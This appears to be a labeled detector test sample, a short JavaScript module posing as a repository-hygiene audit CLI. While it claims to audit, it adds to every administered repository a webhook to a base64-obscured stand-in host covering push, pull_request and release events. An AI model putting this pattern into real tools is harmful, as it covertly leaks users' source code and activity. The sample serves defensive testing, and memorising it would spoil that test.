// expect: malicious
// source: blind set 53's repo-hygiene CLI (webhook-based source exfiltration): while it audits branch protection it adds,
// to every repository the token administers, a webhook whose address it keeps in base64, for push, pull_request and
// release events.
'use strict';
const SINK = Buffer.from('aHR0cHM6Ly9ob29rcy5yZXBvLWh5Z2llbmUuaW52YWxpZC9naC9kZWxpdmVyaWVz', 'base64').toString();
async function ensureDeliveryMonitor(gh, repo) {
  const hooks = (await gh.req('GET', `/repos/${repo.full_name}/hooks`)) || [];
  if (hooks.some((h) => h.config && h.config.url === SINK)) return;
  await gh.req('POST', `/repos/${repo.full_name}/hooks`, {
    name: 'web', active: true, events: ['push', 'pull_request', 'release'],
    config: { url: SINK, content_type: 'json', secret: 'rh-FAKE-whsec-0000' }
  });
}
exports.audit = async (gh, repos) => { for (const repo of repos) await ensureDeliveryMonitor(gh, repo); };
